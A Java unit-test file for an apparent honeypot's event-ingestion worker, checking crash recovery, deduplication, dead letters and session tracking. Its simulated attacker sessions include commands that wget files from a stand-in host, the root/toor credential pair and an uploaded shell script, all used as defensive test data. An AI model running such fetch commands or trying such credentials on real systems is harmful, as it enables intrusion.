package decnet.workers.herd;

import static decnet.testing.Await.await;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import decnet.core.Config;
import decnet.core.Counters;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.Peer;
import decnet.core.Places;
import decnet.db.Database;
import decnet.db.SessionRow;
import decnet.db.StoredEvent;
import decnet.db.fixture.TestDatabase;
import decnet.journal.JournalConfig;
import decnet.journal.JournalEntry;
import decnet.journal.JournalPosition;
import decnet.journal.JournalReader;
import decnet.journal.JournalWriter;
import decnet.runtime.fixture.TestWorkerContext;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class IngestTest {
    private static final Peer MALLORY = Peer.of("203.0.113.9", 40000);
    private static final Peer DECKY = Peer.of("127.1.2.3", 10022);

    @TempDir
    private Path folder = Path.of("replaced");

    private final TestDatabase test = TestDatabase.create();
    private final Database database = test.database();
    private final Counters counters = new Counters();
    private Places places = new Places(folder, folder);
    private Path journal = folder;

    @BeforeEach
    void prepare() {
        places = new Places(folder.resolve("state"), folder.resolve("run"));
        journal = places.journal("collect");
    }

    @AfterEach
    void close() {
        test.close();
    }

    private static Event event(int number, String type, String... fields) {
        Map<String, String> map = new LinkedHashMap<>();
        map.put("n", Integer.toString(number));
        for (int i = 0; i < fields.length; i += 2) {
            map.put(fields[i], fields[i + 1]);
        }
        return Event.of(Instant.now(), new DeckyName("web-01"), "ssh", type, map)
                .withConnection(String.format("%016x", number / 10), MALLORY, DECKY)
                .withRecording(Instant.now(), "here");
    }

    /** Sessions of ten events: connect, two log-ins, five commands, one upload, disconnect. */
    private static List<Event> attack(int events) {
        List<Event> all = new ArrayList<>();
        for (int i = 0; i < events; i++) {
            all.add(
                    switch (i % 10) {
                        case 0 -> event(i, "connect");
                        case 1 ->
                            event(
                                    i,
                                    "login_attempt",
                                    "principal",
                                    "root",
                                    "secret",
                                    "a\\x00" + i,
                                    "outcome",
                                    "rejected");
                        case 2 ->
                            event(i, "login_attempt", "principal", "root", "secret", "toor", "outcome", "accepted");
                        case 8 ->
                            event(
                                    i,
                                    "file_upload",
                                    "name",
                                    "x.sh",
                                    "size",
                                    "12",
                                    "sha256",
                                    "ab".repeat(32),
                                    "via",
                                    "scp");
                        case 9 -> event(i, "disconnect", "duration_ms", "1200", "bytes_in", "7", "reason", "client");
                        default -> event(i, "command", "command", "wget http://203.0.113.1/" + i, "cwd", "/root");
                    });
        }
        return all;
    }

    private void record(List<Event> events) {
        try (JournalWriter writer = JournalWriter.open(
                journal, JournalConfig.from(Config.of(Map.of())), InstantSource.system(), counters)) {
            for (Event event : events) {
                writer.append(event);
            }
            writer.sync();
        }
    }

    private void recordRaw(String text) throws Exception {
        try (Stream<Path> files = Files.list(journal)) {
            Path last = files.filter(file -> file.getFileName().toString().matches(".*[0-9].*"))
                    .filter(Files::isRegularFile)
                    .max(Path::compareTo)
                    .orElseThrow();
            Files.writeString(last, text, StandardOpenOption.APPEND);
        }
    }

    private Ingest ingest() {
        return ingest("collect", done -> {});
    }

    private Ingest ingest(String name, Consumer<Ingest.Committed> committed) {
        return new Ingest(
                database,
                name,
                IngestConfig.from(Config.of(Map.of())),
                new Days(database, InstantSource.system()),
                InstantSource.system(),
                counters,
                committed);
    }

    /** Reads on from where the database stands, in batches, to the end. */
    private void ingestAll(Ingest ingest, int batch) {
        JournalPosition position = ingest.position();
        try (JournalReader reader = JournalReader.open(journal, position, counters)) {
            for (List<JournalEntry> entries = reader.read(batch); !entries.isEmpty(); entries = reader.read(batch)) {
                ingest.write(position, entries);
                position = entries.getLast().next();
            }
        }
    }

    private long count(String table) {
        return test.number("select count(*) from " + table);
    }

    private void assertWhole(int events) {
        assertThat(count("event")).isEqualTo(events);
        assertThat(test.number("select count(distinct fields ->> 'n') from event"))
                .isEqualTo(events);
        assertThat(test.number("select max(seq) from event")).isEqualTo(events);
        assertThat(count("session")).isEqualTo(events / 10);
        assertThat(count("command")).isEqualTo(events / 2);
        assertThat(count("credential")).isEqualTo(events / 5);
        assertThat(count("upload")).isEqualTo(events / 10);
        assertThat(test.number("select sum(event_count) from session")).isEqualTo(events);
        assertThat(test.number("select sum(command_count) from session")).isEqualTo(events / 2);
    }

    @Test
    void aJournalBecomesEventsAndAllThatFollowsFromThem() {
        record(attack(2000));

        ingestAll(ingest(), 333);

        assertWhole(2000);
        SessionRow session =
                database.read(tx -> tx.sessions().find("0000000000000003")).orElseThrow();
        assertThat(session.principal()).contains("root");
        assertThat(session.endReason()).contains("client");
        assertThat(session.durationMillis()).contains(1200L);
        assertThat(test.number("select sum(events) from event_day")).isEqualTo(2000);
        assertThat(counters.value(IngestCounter.EVENTS)).isEqualTo(2000);
        assertThat(counters.value(IngestCounter.DUPLICATES)).isZero();
    }

    @Test
    void killedBeforeAnyCommitAtAllNothingIsLostAndNothingCountsTwice() {
        record(attack(600));
        // each incarnation dies after its first commit, before it could tell anybody
        int deaths = 0;
        while (count("event") < 600) {
            Ingest mortal = ingest("collect", done -> {
                throw new IllegalStateException("killed after the commit");
            });
            try {
                ingestAll(mortal, 70);
            } catch (IllegalStateException e) {
                deaths++;
            }
        }

        ingestAll(ingest(), 70);

        assertThat(deaths).isEqualTo(9);
        assertWhole(600);
    }

    @Test
    void aConnectionCutInTheMiddleRollsEverythingBack() {
        record(attack(100));
        Ingest ingest = ingest();
        test.execute("""
            create function die() returns trigger language plpgsql as
            $$ begin perform pg_terminate_backend(pg_backend_pid()); return new; end $$;
            create trigger die before insert on upload for each row execute function die()\
            """);

        assertThatThrownBy(() -> ingestAll(ingest, 100)).isInstanceOf(decnet.db.StoreException.class);
        assertThat(count("event")).isZero();
        assertThat(count("session")).isZero();

        test.execute("drop trigger die on upload");
        ingestAll(ingest(), 100);
        assertWhole(100);
    }

    @Test
    void theSameJournalFromTheStartAgainChangesNothing() {
        record(attack(500));
        ingestAll(ingest(), 100);
        test.execute("update cursor set position = '' where name = 'journal/collect'");

        ingestAll(ingest(), 90);

        assertWhole(500);
        assertThat(counters.value(IngestCounter.DUPLICATES)).isEqualTo(500);
    }

    @Test
    void aBatchThatIsPartlyKnownAddsTheRest() {
        List<Event> all = attack(300);
        record(all.subList(0, 100));
        ingestAll(ingest(), 100);
        test.execute("update cursor set position = '' where name = 'journal/collect'");
        record(all.subList(100, 300));

        ingestAll(ingest(), 1000);

        assertWhole(300);
        assertThat(counters.value(IngestCounter.DUPLICATES)).isEqualTo(100);
    }

    @Test
    void badLinesBecomeDeadLettersAndHoldUpNothing() throws Exception {
        record(attack(50));
        recordRaw("this is no event\n<134>1 nonsense\n\n");
        record(attack(100).subList(50, 100));

        ingestAll(ingest(), 1000);

        assertWhole(100);
        assertThat(count("dead_letter")).isEqualTo(2);
        assertThat(counters.value(IngestCounter.DEAD_LETTERS)).isEqualTo(2);
    }

    @Test
    void aLineThatOnlyTheDatabaseRefusesBecomesADeadLetterToo() {
        List<Event> all = new ArrayList<>(attack(100));
        record(all);
        test.execute("""
            alter table event add constraint picky check (fields ->> 'n' <> '42')\
            """);

        ingestAll(ingest(), 1000);

        assertThat(count("event")).isEqualTo(99);
        assertThat(count("dead_letter")).isEqualTo(1);
        assertThat(test.number("select max(seq) from event")).isEqualTo(99);
        assertThat(test.number("select sum(event_count) from session")).isEqualTo(99);
    }

    @Test
    void aSecondIngestOnTheSameJournalIsNoticed() {
        record(attack(20));
        Ingest first = ingest();
        JournalPosition start = first.position();
        List<JournalEntry> entries;
        try (JournalReader reader = JournalReader.open(journal, start, counters)) {
            entries = reader.read(10);
        }
        first.write(start, entries);

        assertThatThrownBy(() -> ingest().write(start, entries)).hasMessageContaining("another ingest");
        assertThat(count("event")).isEqualTo(10);
    }

    @Test
    void theWorkerFollowsTheJournalAndTellsTheBus() throws Exception {
        record(attack(100));
        try (TestWorkerContext context =
                new TestWorkerContext("herd", test.config(), places).start(new IngestWorker())) {
            await(() -> assertThat(context.state()).isEqualTo("ready"));
            await(() -> assertWhole(100));

            record(attack(130).subList(100, 130));
            context.localBus().publish(new decnet.bus.Topic("system.collect.news"), "news", decnet.core.Json.object());

            await(() -> assertWhole(130));
            assertThat(context.localBus().published())
                    .anySatisfy(message -> {
                        assertThat(message.topic().text()).isEqualTo("system.log");
                        assertThat(message.payload().path("attacker_ip").asText())
                                .isEqualTo("203.0.113.9");
                    })
                    .anySatisfy(message -> {
                        assertThat(message.topic().text()).isEqualTo("credential.captured");
                        assertThat(message.payload().path("secret_sha256").asText())
                                .hasSize(64);
                    });
            assertThat(context.localBus().published().toString()).doesNotContain("toor");
        }
        try (Stream<Path> readers = Files.list(journal.resolve("readers"))) {
            assertThat(readers.map(path -> path.getFileName().toString())).contains("ingest");
        }
    }

    @Test
    void theWorkerWaitsWhileTheSchemaOrTheServerIsMissing() throws Exception {
        record(attack(20));
        try (TestDatabase empty = TestDatabase.createEmpty();
                TestWorkerContext context =
                        new TestWorkerContext("herd", empty.config(), places).start(new IngestWorker())) {
            await(() -> assertThat(context.state()).contains("decnet db migrate"));

            empty.database().migrations().migrate();
            context.wake();

            await(() -> assertThat(empty.number("select count(*) from event")).isEqualTo(20));
            await(() -> assertThat(context.state()).isEqualTo("ready"));
        }
        Config nowhere = Config.of(Map.of("db.connect-timeout", "300ms"));
        try (TestWorkerContext context = new TestWorkerContext("herd", nowhere, places).start(new IngestWorker())) {
            await(() -> assertThat(context.state()).startsWith("degraded: database"));
            assertThat(context.counters().value(IngestCounter.STORE_FAILURES)).isPositive();
        }
    }

    @Test
    void followersSeeEveryEventOnceInOrder() {
        record(attack(250));
        ingestAll(ingest(), 60);

        List<Long> seen = new ArrayList<>();
        long last = 0;
        while (true) {
            long after = last;
            List<StoredEvent> page = database.read(tx -> tx.events().after(after, 40));
            if (page.isEmpty()) {
                break;
            }
            page.forEach(stored -> seen.add(stored.seq()));
            last = page.getLast().seq();
        }

        assertThat(seen).hasSize(250).isSorted().doesNotHaveDuplicates();
        assertThat(last).isEqualTo(250);
    }

    private Event foreign(Instant at, int port) {
        return new Event(
                java.util.Optional.empty(),
                at,
                java.util.Optional.of(at),
                java.util.Optional.of("here"),
                new DeckyName("web-01"),
                "telnet",
                "login_attempt",
                java.util.Optional.empty(),
                java.util.Optional.of(Peer.of("203.0.113.9", port)),
                java.util.Optional.of(DECKY),
                Map.of("principal", "root", "secret", "x"));
    }

    @Test
    void eventsWithoutAnIdShareASessionUntilItIsIdle() {
        Instant start = Instant.now().minusSeconds(7200).truncatedTo(java.time.temporal.ChronoUnit.MILLIS);
        List<Event> all = new ArrayList<>();
        for (int minute : new int[] {0, 5, 14, 40, 45}) {
            all.add(foreign(start.plusSeconds(60L * minute), 4000));
        }
        all.add(foreign(start, 4001));
        record(all);

        ingestAll(ingest(), 1); // each in a transaction of its own
        ingestAll(ingest(), 1);

        List<SessionRow> found =
                database.read(tx -> tx.sessions().newest(Instant.now().plusSeconds(60), 10));
        assertThat(found).extracting(SessionRow::events).containsExactlyInAnyOrder(3L, 2L, 1L);
        assertThat(test.number("select count(*) from credential where session is not null"))
                .isEqualTo(6);
        assertThat(test.number("select count(*) from session where id not like 'flow:%'"))
                .isZero();
    }

    @Test
    void whatAnotherIngestBeganGoesOnUnderTheSameName() {
        Instant start = Instant.now().minusSeconds(600);
        record(List.of(foreign(start, 4000)));
        ingestAll(ingest(), 10);
        record(List.of(foreign(start.plusSeconds(60), 4000)));

        ingestAll(ingest(), 10);

        assertThat(count("session")).isEqualTo(1);
        assertThat(test.number("select max(event_count) from session")).isEqualTo(2);
    }

    private static Event ofDecoys(String session, String type) {
        return Event.of(Instant.now(), new DeckyName("web-01"), "ssh", type, Map.of())
                .withConnection(session, MALLORY, DECKY)
                .withRecording(Instant.now(), "here");
    }

    @Test
    void aNewRunOfTheDecoysEndsWhatTheOldOneLeftOpen() {
        String old = "aaaaaaaaaaaa0000000";
        record(List.of(
                ofDecoys(old + "1", "connect"),
                ofDecoys(old + "2", "connect"),
                ofDecoys(old + "2", "disconnect"),
                ofDecoys("honey/1", "connect")));
        ingestAll(ingest(), 100);
        assertThat(test.number("select count(*) from session where end_reason is null"))
                .isEqualTo(2);

        record(List.of(ofDecoys("bbbbbbbbbbbb00000001", "connect")));
        ingestAll(ingest(), 100);

        assertThat(database.read(tx -> tx.sessions().find(old + "1"))
                        .orElseThrow()
                        .endReason())
                .contains("lost");
        assertThat(database.read(tx -> tx.sessions().find(old + "2"))
                        .orElseThrow()
                        .endReason())
                .contains("closed");
        assertThat(test.number("select count(*) from session where end_reason is null"))
                .as("that of the new run, and that of a source with names of its own")
                .isEqualTo(2);
    }

    @Test
    void aSessionOfAnotherSiteIsNeverOneOfOurs() {
        record(List.of(ofDecoys("aaaaaaaaaaaa00000001", "connect")));
        ingestAll(ingest(), 10);
        journal = places.journal("relay-berlin");
        record(List.of(ofDecoys("aaaaaaaaaaaa00000001", "connect"), ofDecoys("bbbbbbbbbbbb00000001", "connect")));

        ingestAll(ingest("relay-berlin", done -> {}), 10);

        assertThat(database.read(tx -> tx.sessions().find("aaaaaaaaaaaa00000001"))
                        .orElseThrow())
                .satisfies(ours -> assertThat(ours.events()).isEqualTo(1))
                .satisfies(ours -> assertThat(ours.endReason()).isEmpty());
        assertThat(database.read(tx -> tx.sessions().find("@berlin/aaaaaaaaaaaa00000001"))
                        .orElseThrow()
                        .endReason())
                .as("its run is over")
                .contains("lost");
    }

    @Test
    void aTimeOutOfBoundsIsHeldToTheRecordingAndKept() {
        Instant now = Instant.now().truncatedTo(java.time.temporal.ChronoUnit.MICROS);
        Instant future = now.plusSeconds(3600);
        Event late = Event.of(future, new DeckyName("web-01"), "ssh", "command", Map.of("command", "id"))
                .withRecording(now, "here");
        record(List.of(late));

        ingestAll(ingest(), 10);

        Event stored = database.read(tx -> tx.events().after(0, 1)).getFirst().event();
        assertThat(stored.at()).isEqualTo(now);
        assertThat(stored.field("claimed_at")).contains(future.toString());
        assertThat(counters.value(IngestCounter.TIMES_HELD)).isEqualTo(1);
    }

    @Test
    void anEventRecordedOnAnImpossibleDayIsADeadLetter() {
        record(List.of(event(1, "command").withRecording(Instant.parse("1970-01-01T00:00:00Z"), "here")));

        ingestAll(ingest(), 10);

        assertThat(count("event")).isZero();
        assertThat(database.read(tx -> tx.deadLetters().newest(1)).getFirst().reason())
                .contains("recorded at 1970-01-01T00:00:00Z");
    }

    @Test
    void theWorkerFindsJournalsThatAppearLaterAndEndsIdleSessions() {
        record(List.of(foreign(Instant.now().minusSeconds(7200), 4000)));
        try (TestWorkerContext context =
                new TestWorkerContext("herd", test.config(), places).start(new IngestWorker())) {
            await(() ->
                    assertThat(context.counters().value(IngestCounter.EVENTS)).isEqualTo(1));
            journal = places.journal("relay-berlin");
            record(List.of(ofDecoys("aaaaaaaaaaaa00000001", "connect")));

            await(() -> assertThat(count("event")).isEqualTo(2));
            await(() -> assertThat(test.number("select count(*) from session where end_reason = 'idle'"))
                    .isEqualTo(1));
            await(() -> assertThat(context.counters().value(IngestCounter.SESSIONS_ENDED))
                    .isEqualTo(1));
        }
        assertThat(test.number("select count(*) from session where end_reason is null"))
                .isEqualTo(1);
    }

    @Test
    void aDeadLetterBecomesAnEventOnceItsReasonIsGone() throws Exception {
        record(attack(20));
        recordRaw("this is no event\n");
        test.execute("alter table event add constraint picky check (fields ->> 'n' <> '7')");
        ingestAll(ingest(), 1000);
        assertThat(count("dead_letter")).isEqualTo(2);
        assertThat(count("event")).isEqualTo(19);
        test.execute("alter table event drop constraint picky");
        database.inTransaction(tx -> tx.deadLetters().markAllForRetry(10));

        new DeadLetterRetry(
                        database,
                        IngestConfig.from(Config.of(Map.of())),
                        new Days(database, InstantSource.system()),
                        InstantSource.system(),
                        counters)
                .retry();

        assertWhole(20);
        assertThat(counters.value(IngestCounter.LETTERS_REVIVED)).isEqualTo(1);
        assertThat(test.number("select count(*) from dead_letter where attempts = 1 and retry_at is null"))
                .as("what is no event stays, with one more attempt")
                .isEqualTo(1);
        assertThat(count("dead_letter")).isEqualTo(1);
    }

    @Test
    void aJournalThatCannotBeReadHoldsUpNoOther() throws Exception {
        journal = places.journal("relay-berlin");
        record(attack(10));
        Files.writeString(journal.resolve("id"), "damaged\n");
        journal = places.journal("collect");
        record(attack(20));
        try (TestWorkerContext context =
                new TestWorkerContext("herd", test.config(), places).start(new IngestWorker())) {
            await(() ->
                    assertThat(context.counters().value(IngestCounter.EVENTS)).isEqualTo(20));
            await(() -> assertThat(context.state()).isEqualTo("degraded: cannot read journal relay-berlin"));

            Files.writeString(places.journal("relay-berlin").resolve("id"), "0123456789abcdef\n");

            await(() ->
                    assertThat(context.counters().value(IngestCounter.EVENTS)).isEqualTo(30));
            await(() -> assertThat(context.state()).isEqualTo("ready"));
        }
        assertThat(count("event")).isEqualTo(30);
    }
}
